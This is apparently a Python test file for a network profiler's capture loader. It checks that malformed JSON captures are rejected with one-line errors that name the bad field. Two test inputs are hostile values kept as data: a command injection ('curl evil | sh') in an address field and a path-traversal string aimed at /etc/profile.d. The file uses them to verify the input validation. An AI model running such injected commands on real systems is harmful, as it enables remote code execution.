"""The capture loader: every way a capture file can be bad is one NetprofError line naming
the first bad field, and real captures load unchanged."""
from __future__ import annotations

import copy
import io
import json
from pathlib import Path

import pytest

from profiler import capture_file
from profiler.analysis.findings import FINDING_KINDS
from profiler.capture_file import CaptureError, load_capture, max_capture_bytes, validate_capture
from profiler.errors import NetprofError

FIXTURES = Path(__file__).parents[1] / "tui" / "fixtures"
RECORDED = sorted(FIXTURES.glob("*.json"))


@pytest.fixture
def busy() -> dict:
    return json.loads((FIXTURES / "busy.json").read_text())


def _write(tmp_path: Path, doc_or_text: object) -> Path:
    path = tmp_path / "cap.json"
    path.write_text(doc_or_text if isinstance(doc_or_text, str) else json.dumps(doc_or_text))
    return path


def _error(path: Path, **kwargs: object) -> str:
    with pytest.raises(NetprofError) as caught:
        load_capture(path, **kwargs)
    message = str(caught.value)
    assert "\n" not in message and "\x1b" not in message
    return message


@pytest.mark.parametrize("path", RECORDED, ids=lambda p: p.name)
def test_recorded_captures_load_unchanged(path):
    assert load_capture(path) == json.loads(path.read_text())


@pytest.mark.parametrize(
    "mutate, where, what",
    [
        (lambda d: d.__setitem__("pods", 5), "$.pods", "expected array, found an integer"),
        (lambda d: d.__setitem__("findings", "x"), "$.findings", "expected array, found a string"),
        (lambda d: d["pods"][0].__setitem__("drops", {"NETFILTER_DROP": -3}), "$.pods[0].drops.NETFILTER_DROP", "below 0"),
        (lambda d: d["pods"][1].__setitem__("retransmits", 1.5), "$.pods[1].retransmits", "expected integer"),
        (lambda d: d["cpus"][0]["napi"][0].pop("polls"), "$.cpus[0].napi[0]", "missing polls"),
        (lambda d: d["cpus"][0].__setitem__("softirq", []), "$.cpus[0].softirq", "expected object"),
        (lambda d: d["node"].__setitem__("nics", [{"name": "eth0", "queues": [{"index": 0, "kind": "rx", "irq": "38"}]}]),
         "$.node.nics[0].queues[0].irq", "expected integer or null"),
        (lambda d: d["flows"][0].__setitem__("daddr", "198.18.0.2; curl evil | sh"), "$.flows[0].daddr",
         "is not an IPv4 or IPv6 address"),
        (lambda d: d["findings"][0].__setitem__("kind", "../../../../etc/profile.d/evil"), "$.findings[0].kind",
         "not a kind of finding netprof makes"),
        (lambda d: d["findings"][0]["fixes"][0].__setitem__("scope", "root"), "$.findings[0].fixes[0].scope", "not one of"),
        (lambda d: d.pop("pods"), "$", "missing pods"),
        (lambda d: d["flows"][1]["states"].__setitem__("LOST", "many"), "$.flows[1].states.LOST", "expected integer"),
    ],
)
def test_a_bad_field_is_named_by_its_json_path(tmp_path, busy, mutate, where, what):
    mutate(busy)
    message = _error(_write(tmp_path, busy))
    assert f"is not a valid capture: {where}:" in message and what in message, message


@pytest.mark.parametrize("literal", ["NaN", "Infinity", "-Infinity", "1e999", "-1e999"])
def test_non_finite_numbers_are_refused(tmp_path, literal):
    text = (FIXTURES / "quiet.json").read_text().replace('"duration_s": ', f'"duration_s": {literal}, "was": ', 1)
    message = _error(_write(tmp_path, text))
    assert "not a valid capture" in message


def test_numbers_beyond_any_counter_are_refused(tmp_path, busy):
    busy["pods"][0]["drops"]["NETFILTER_DROP"] = 2 ** 70
    assert "$.pods[0].drops.NETFILTER_DROP: a number beyond any counter" in _error(_write(tmp_path, busy))
    text = json.dumps(busy).replace(str(2 ** 70), "9" * 5000)  # more digits than int() takes
    assert "not a valid capture" in _error(_write(tmp_path, text))


@pytest.mark.parametrize("depth", [40, 900, 100_000])
def test_deep_nesting_is_a_clean_error(tmp_path, depth):
    text = '{"schema": "netprof.profile/v1", "evidence": ' + "[" * depth + "]" * depth + "}"
    assert "nested deeper" in _error(_write(tmp_path, text))


def test_lone_surrogates_are_refused(tmp_path, busy):
    busy["pods"][0]["pod"] = "\ud800x"
    assert "$.pods[0].pod: a string that is not valid Unicode" in _error(_write(tmp_path, busy))


@pytest.mark.parametrize("text, what", [
    ("", "is not JSON"), ("{", "is not JSON"), ("[]", "is not a netprof capture"),
    ('{"schema": "netprof.profile/v2"}', "is not a netprof capture"),
])
def test_not_a_capture(tmp_path, text, what):
    assert what in _error(_write(tmp_path, text))


def test_unreadable_paths(tmp_path):
    assert "no such capture file" in _error(tmp_path / "missing.json")
    assert "is a directory" in _error(tmp_path)
    (tmp_path / "bad.json").write_bytes(b'{"schema": "\xff"}')
    assert "not a valid capture" in _error(tmp_path / "bad.json")


def test_size_limit_from_flag_then_environment_then_default(tmp_path, busy, monkeypatch):
    path = _write(tmp_path, busy)
    size_mb = path.stat().st_size / (1 << 20)
    message = _error(path, limit_mb=size_mb / 2)
    assert "is larger than" in message and "--max-capture-mb" in message and "NETPROF_MAX_CAPTURE_MB" in message
    assert load_capture(path, limit_mb=size_mb * 2)["schema"] == "netprof.profile/v1"
    monkeypatch.setenv("NETPROF_MAX_CAPTURE_MB", str(size_mb / 2))
    assert "is larger than" in _error(path)
    assert load_capture(path, limit_mb=size_mb * 2)  # the flag wins over the environment
    monkeypatch.setenv("NETPROF_MAX_CAPTURE_MB", "lots")
    assert "NETPROF_MAX_CAPTURE_MB=lots is not a number" in _error(path)
    assert max_capture_bytes(None, environ={}) == 64 << 20
    with pytest.raises(CaptureError):
        max_capture_bytes(float("nan"), environ={})


def test_size_limit_holds_for_a_stream_without_a_size(tmp_path, busy):
    # A pipe has no size to check first: the read itself stops past the limit.
    with pytest.raises(CaptureError, match="is larger than"):
        capture_file._read_bounded(io.BytesIO(json.dumps(busy).encode()), tmp_path / "pipe", 1000,
                                   capture_file._Progress("pipe", 0))


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_progress_is_shown_on_a_terminal_for_a_large_capture(tmp_path, busy, monkeypatch):
    path = _write(tmp_path, busy)
    monkeypatch.setattr(capture_file, "PROGRESS_ABOVE_BYTES", 1000)
    monkeypatch.setattr(capture_file, "_CHUNK", 4096)
    monkeypatch.setattr(capture_file, "_PROGRESS_EVERY_ITEMS", 1)
    terminal = _Terminal()
    load_capture(path, progress_stream=terminal)
    shown = terminal.getvalue()
    assert "reading 100% of" in shown and "parsing" in shown and "checking 50% of" in shown
    assert shown.endswith("\r\x1b[K")  # the line is cleared before the app or the output starts
    pipe = io.StringIO()
    load_capture(path, progress_stream=pipe)
    assert pipe.getvalue() == ""


def test_every_finding_kind_of_the_recorded_captures_is_known():
    kinds = {f["kind"] for path in RECORDED for f in json.loads(path.read_text())["findings"]}
    assert kinds and kinds <= FINDING_KINDS


def test_validate_capture_takes_documents_too(busy):
    assert validate_capture(copy.deepcopy(busy)) == busy
    with pytest.raises(CaptureError, match="is not a netprof capture"):
        validate_capture([busy])


def test_the_schema_is_a_valid_draft_2020_12_schema():
    import jsonschema

    jsonschema.Draft202012Validator.check_schema(capture_file._validator().schema)
